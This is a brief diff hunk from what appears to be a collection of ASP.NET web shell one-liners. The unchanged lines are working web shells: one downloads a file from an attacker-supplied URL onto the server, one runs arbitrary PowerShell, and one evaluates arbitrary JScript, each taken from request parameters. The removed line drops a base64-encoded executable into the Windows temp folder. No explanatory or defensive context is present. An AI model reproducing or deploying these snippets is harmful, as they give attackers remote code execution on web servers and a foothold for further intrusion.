@@ -12,4 +12,3 @@
 <% new System.Net.WebClient().DownloadFile(Request["u"], Server.MapPath(Request["f"])); %>
 <% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript( Request["c"] ); ps.Invoke(); %>
 <% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["c"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
-<% byte[] b = Convert.FromBase64String("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAA"); System.IO.File.WriteAllBytes(@"c:\windows\temp\a.exe", b); %>
